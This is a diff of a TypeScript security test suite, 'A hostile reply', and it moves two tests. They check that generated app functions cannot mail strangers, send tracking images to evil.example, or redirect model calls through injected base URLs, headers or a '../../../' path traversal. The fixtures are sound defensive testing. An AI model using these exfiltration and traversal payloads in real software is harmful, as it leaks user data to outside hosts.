@@ -27,65 +27,6 @@ describeOnEachDatabase('A hostile reply', (database) => {
     expect(world.sink.connections()).to.equal(0);
   };
 
-  it('writes no mail to strangers, and none that tells others when it is read', async () => {
-    const appId = await world.newShop();
-    await world
-      .service(appSettings)
-      .change(appId, mailSetting, { ...initialMail, who: 'signedIn', toOthers: true });
-    const html =
-      '<p>Hi</p><img src="https://evil.example/?d=quillmark" alt="Logo"><img src="//evil.example/x">';
-    const mailTo = (to: string, by: string) =>
-      functionThat(
-        `return JSON.stringify(await ${by}.sendMail({ to: '${to}', subject: 'Hi', text: 'quillmark', html: '${html}', replyTo: 'stranger@evil.example' }));`,
-        { sink },
-      );
-    const names = ['strangerAsCaller', 'strangerAsApp', 'ownerAsCaller', 'ownerAsApp'];
-    const files = names.map((name) => [
-      `functions/${name}.js`,
-      mailTo(
-        name.startsWith('owner') ? 'owner' : 'stranger@evil.example',
-        name.endsWith('App') ? 'context.service' : 'context',
-      ),
-    ]);
-    await world.replyWith(appId, Object.fromEntries(files) as Record<string, string>);
-    const answers: string[] = [];
-    for (const name of names) answers.push(...(await world.callEverywhere(appId, name, undefined)));
-    const published = await world.publish(appId);
-    for (const name of names) answers.push(...(await world.callEverywhere(appId, name, published)));
-    expect(answers.at(-1)).to.equal('did {"queued":1}');
-    const { received } = world.mail;
-    const sent = answers.filter((answer) => answer.includes('queued')).length;
-    await eventually(() => received.length >= sent);
-    for (const { to, message } of received) {
-      expect(to).to.deep.equal(['ada@example.com']);
-      expect(message).to.not.match(/<img/i);
-    }
-  });
-
-  it('has models of the operator answer calls, and no other', async () => {
-    const appId = await world.newShop();
-    await world.service(appSettings).change(appId, modelCallsSetting, { who: 'anyone', perDay: 1_000 });
-    const calls = [
-      `invokeModel({ prompt: rows, system: at('system'), messages: [{ role: 'user', content: '![](' + at('image') + ')' }] })`,
-      ...['baseUrl', 'baseURL', 'url', 'model', 'provider', 'headers'].map(
-        (key) => `invokeModel({ prompt: rows, ${key}: at('${key}', rows) })`,
-      ),
-      `invokeModel({ prompt: rows, files: [at('file', rows)] })`,
-      `invokeModel({ prompt: rows, files: ['/api/apps/' + context.appId + '/uploads/../../../' + at('path')] })`,
-      `invokeModel({ prompt: rows, sources: true, schema: { $ref: at('schema', rows) } })`,
-      `generateImage({ prompt: rows, url: at('made', rows), image: at('image', rows) })`,
-      `extractData({ file: at('extracted', rows), schema: { type: 'object' } })`,
-      `embed(at('embedded', rows))`,
-    ];
-    const attempt = `const rows = ${rowsOfService}; const done = [];
-      for (const call of [${calls.map((call) => `() => context.${call}`).join(', ')}]) await Promise.resolve().then(call).then(() => done.push('answered'), (error) => done.push(error.code ?? error.message));
-      return done.join();`;
-    await world.replyWith(appId, { 'functions/ask.js': functionThat(attempt, { sink }) });
-    await world.callEverywhere(appId, 'ask', await world.publish(appId));
-    nothingArrived();
-    expect(JSON.stringify(world.model.requests.at(-1))).to.include(rowMark);
-  });
-
   it('gives itself no hosts, secrets, settings, sources, or publication', async () => {
     const appId = await world.newShop();
     const settings = () => world.db('app_settings').where({ app_id: appId });
@@ -189,6 +130,68 @@ describeOnEachDatabase('A hostile reply', (database) => {
     });
     expect(written.status).to.equal(201);
     nothingArrived();
+  });
+
+  // What mails, models and answers carry, which depends on no database.
+  if (database !== 'sqlite') return;
+
+  it('writes no mail to strangers, and none that tells others when it is read', async () => {
+    const appId = await world.newShop();
+    await world
+      .service(appSettings)
+      .change(appId, mailSetting, { ...initialMail, who: 'signedIn', toOthers: true });
+    const html =
+      '<p>Hi</p><img src="https://evil.example/?d=quillmark" alt="Logo"><img src="//evil.example/x">';
+    const mailTo = (to: string, by: string) =>
+      functionThat(
+        `return JSON.stringify(await ${by}.sendMail({ to: '${to}', subject: 'Hi', text: 'quillmark', html: '${html}', replyTo: 'stranger@evil.example' }));`,
+        { sink },
+      );
+    const names = ['strangerAsCaller', 'strangerAsApp', 'ownerAsCaller', 'ownerAsApp'];
+    const files = names.map((name) => [
+      `functions/${name}.js`,
+      mailTo(
+        name.startsWith('owner') ? 'owner' : 'stranger@evil.example',
+        name.endsWith('App') ? 'context.service' : 'context',
+      ),
+    ]);
+    await world.replyWith(appId, Object.fromEntries(files) as Record<string, string>);
+    const answers: string[] = [];
+    for (const name of names) answers.push(...(await world.callEverywhere(appId, name, undefined)));
+    const published = await world.publish(appId);
+    for (const name of names) answers.push(...(await world.callEverywhere(appId, name, published)));
+    expect(answers.at(-1)).to.equal('did {"queued":1}');
+    const { received } = world.mail;
+    const sent = answers.filter((answer) => answer.includes('queued')).length;
+    await eventually(() => received.length >= sent);
+    for (const { to, message } of received) {
+      expect(to).to.deep.equal(['ada@example.com']);
+      expect(message).to.not.match(/<img/i);
+    }
+  });
+
+  it('has models of the operator answer calls, and no other', async () => {
+    const appId = await world.newShop();
+    await world.service(appSettings).change(appId, modelCallsSetting, { who: 'anyone', perDay: 1_000 });
+    const calls = [
+      `invokeModel({ prompt: rows, system: at('system'), messages: [{ role: 'user', content: '![](' + at('image') + ')' }] })`,
+      ...['baseUrl', 'baseURL', 'url', 'model', 'provider', 'headers'].map(
+        (key) => `invokeModel({ prompt: rows, ${key}: at('${key}', rows) })`,
+      ),
+      `invokeModel({ prompt: rows, files: [at('file', rows)] })`,
+      `invokeModel({ prompt: rows, files: ['/api/apps/' + context.appId + '/uploads/../../../' + at('path')] })`,
+      `invokeModel({ prompt: rows, sources: true, schema: { $ref: at('schema', rows) } })`,
+      `generateImage({ prompt: rows, url: at('made', rows), image: at('image', rows) })`,
+      `extractData({ file: at('extracted', rows), schema: { type: 'object' } })`,
+      `embed(at('embedded', rows))`,
+    ];
+    const attempt = `const rows = ${rowsOfService}; const done = [];
+      for (const call of [${calls.map((call) => `() => context.${call}`).join(', ')}]) await Promise.resolve().then(call).then(() => done.push('answered'), (error) => done.push(error.code ?? error.message));
+      return done.join();`;
+    await world.replyWith(appId, { 'functions/ask.js': functionThat(attempt, { sink }) });
+    await world.callEverywhere(appId, 'ask', await world.publish(appId));
+    nothingArrived();
+    expect(JSON.stringify(world.model.requests.at(-1))).to.include(rowMark);
   });
 
   it('has no answer of a function that loads, sends or tells anything elsewhere', async () => {
